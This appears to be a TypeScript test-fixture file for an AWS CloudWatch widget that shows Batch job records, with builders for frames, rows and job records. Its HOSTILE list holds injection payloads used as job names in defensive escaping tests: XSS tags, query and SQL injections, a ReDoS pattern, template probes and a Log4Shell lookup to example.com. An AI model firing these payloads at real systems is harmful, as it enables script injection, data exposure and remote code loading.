import { reportLinks, widgetLinks } from '../../../src/domain/explorer/links';
import { Frame, Row } from '../../../src/domain/explorer/page';
import { Place, Screen } from '../../../src/domain/explorer/request';
import { JobRecord } from '../../../src/domain/names/job-record-fields';

export const NOW = Date.parse('2026-11-20T12:00:00Z');
export const ENDPOINT = 'arn:aws:lambda:eu-west-1:123456789012:function:customWidget-explorer';
export const JOB_ID = '01234567-89ab-cdef-0123-456789abcdef';
const CONSOLE = { domain: 'console.aws.amazon.com', region: 'eu-west-1' };

export const SCREEN: Screen = { theme: 'light', width: 1200, start: NOW - 86_400_000, end: NOW, offsetMinutes: 0, zone: 'UTC' };

export const frame = (screen: Partial<Screen> = {}): Frame => ({
  screen: { ...SCREEN, ...screen },
  links: widgetLinks(ENDPOINT, CONSOLE),
  now: NOW,
  hasSnapshots: true,
});
export const reportFrame = (): Frame => ({ ...frame(), links: reportLinks(CONSOLE) });

export const place = (given: Partial<Place> = {}): Place => ({ view: 'search', page: 0, by: 'queue', ...given });

export const at = (minutes: number): string => new Date(NOW - 3_600_000 + minutes * 60_000).toISOString();

/** A row of a list of jobs, of one that succeeded. */
export const listRow = (given: Readonly<Record<string, string | undefined>> = {}): Row =>
  ({
    JobId: 'id-1',
    JobName: 'align',
    JobQueue: 'genomics',
    JobDefinition: 'align:7',
    Status: 'SUCCEEDED',
    StoppedAt: at(0),
    TotalRunnableSeconds: '5',
    TotalRunningSeconds: '3700',
    AttemptCount: '1',
    ...given,
  }) as Row;

/** A job that ran once and succeeded. */
export const record = (given: Partial<JobRecord> & Readonly<Record<string, unknown>> = {}): JobRecord =>
  ({
    RecordType: 'job',
    SchemaVersion: 1,
    JobId: JOB_ID,
    JobName: 'align-reads',
    JobQueue: 'genomics',
    JobDefinition: 'align:7',
    Status: 'SUCCEEDED',
    CreatedAt: at(0),
    RunnableAt: at(1),
    StartingAt: at(5),
    StartedAt: at(6),
    StoppedAt: at(26),
    TotalRunnableSeconds: 240,
    TotalStartingSeconds: 60,
    TotalRunningSeconds: 1200,
    AttemptCount: 1,
    SpotInterruptions: 0,
    Attempts: [{ Number: 1 }],
    ...given,
  }) as JobRecord;

/** What a person or a program could name a job to make a page or a query do something else. */
export const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '</cwdb-action><cwdb-action action="call" endpoint="arn:other">{}',
  '</style><iframe src="https://example.com">',
  '&lt;b&gt; &amp;',
  '" | fields @message | filter "1" = "1',
  '" or 1=1 or JobName = "',
  "' or '1'='1",
  '/ | stats count(*) by @message | filter JobName like /',
  '\\/ or JobName like /.*/',
  '\\',
  '\\" | limit 10000',
  '(((((a+)+)+)+)+$',
  '[a-z',
  'a{99999}',
  '*',
  '$where',
  '`JobId`',
  '# comment',
  'line\nfilter JobId = "x"',
  'tab\tand\r\nreturn',
  '\u202egnp.exe',
  '\u0000\u0007\u001b[31m',
  '\ud800',
  'naïve Ünïcödé 日本語 🚀👩‍👩‍👧',
  '${jndi:ldap://example.com}',
  '{{7*7}}',
  'x'.repeat(10_000),
  '<'.repeat(10_000),
];

/** Each with a name that fits into a line. */
export const HOSTILE_CASES = HOSTILE.map((text) => [JSON.stringify(text).slice(0, 60), text] as const);
